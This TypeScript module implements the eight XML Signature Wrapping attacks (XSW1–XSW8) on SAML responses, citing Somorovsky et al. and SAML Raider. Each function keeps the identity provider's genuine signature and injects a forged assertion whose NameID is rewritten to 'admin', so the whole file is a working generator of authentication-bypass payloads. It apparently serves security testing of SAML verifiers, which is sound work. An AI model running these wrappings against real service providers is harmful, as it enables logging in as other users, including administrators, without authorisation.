// The eight ways of signature wrapping (Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", and SAML Raider): each keeps something that
// the provider signed, and puts beside it an assertion about somebody else for the service to read.

const assertionPattern = /<saml:Assertion[\s\S]*<\/saml:Assertion>/
const signaturePattern = /<ds:Signature[\s\S]*?<\/ds:Signature>/

function parts(xml: string) {
  const assertion = assertionPattern.exec(xml)?.[0] ?? ''
  const ownSignature = signaturePattern.exec(assertion)?.[0]
  const signature = ownSignature ?? signaturePattern.exec(xml)?.[0] ?? ''
  const bare = assertion.replace(ownSignature ?? '', '')
  const evil = bare
    .replace(/(<saml:NameID[^>]*>)[\s\S]*?(<\/saml:NameID>)/, '$1admin$2')
    .replace(/ ID="[^"]*"/, ' ID="_evil"')
  return { assertion, signature, bare, evil }
}

const inside = (signature: string, what: string) => signature.replace('</ds:Signature>', `${what}</ds:Signature>`)
const withChild = (assertion: string, child: string) =>
  assertion.replace('</saml:Assertion>', `${child}</saml:Assertion>`)
/** Replaces text without the patterns that a replacement may contain. */
const put = (xml: string, from: string, to: string) => xml.split(from).join(to)

/** Returns an evil copy of the whole response, without its signature. */
function evilResponse(xml: string) {
  const { assertion, signature, evil } = parts(xml)
  const original = put(xml, signature, '')
  const copy = put(put(xml, assertion, evil), signature, '').replace(/ ID="_r[^"]*"/, ' ID="_evilResponse"')
  return { signature, original, copy }
}

export const wrappings: Readonly<Record<string, (xml: string) => string>> = {
  'XSW1, the original response in the signature of another': (xml) => {
    const { signature, original, copy } = evilResponse(xml)
    return copy.replace('<samlp:Status>', () => `${inside(signature, original)}<samlp:Status>`)
  },
  'XSW2, the original response beside its signature in another': (xml) => {
    const { signature, original, copy } = evilResponse(xml)
    return copy.replace('<samlp:Status>', () => `${original}${signature}<samlp:Status>`)
  },
  'XSW3, another assertion before the original one': (xml) => {
    const { assertion, evil } = parts(xml)
    return put(xml, assertion, evil + assertion)
  },
  'XSW4, the original assertion in another': (xml) => {
    const { assertion, evil } = parts(xml)
    return put(xml, assertion, withChild(evil, assertion))
  },
  'XSW5, the signature in another assertion, the original one behind it': (xml) => {
    const { assertion, signature, bare, evil } = parts(xml)
    return put(xml, assertion, withChild(evil, signature) + bare)
  },
  'XSW6, the original assertion in the signature of another': (xml) => {
    const { assertion, signature, bare, evil } = parts(xml)
    return put(xml, assertion, withChild(evil, inside(signature, bare)))
  },
  'XSW7, another assertion among extensions': (xml) => {
    const { assertion, evil } = parts(xml)
    return put(xml, assertion, `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`)
  },
  'XSW8, the original assertion as an object of the signature in another': (xml) => {
    const { assertion, signature, bare, evil } = parts(xml)
    return put(xml, assertion, withChild(evil, inside(signature, `<ds:Object>${bare}</ds:Object>`)))
  },
}
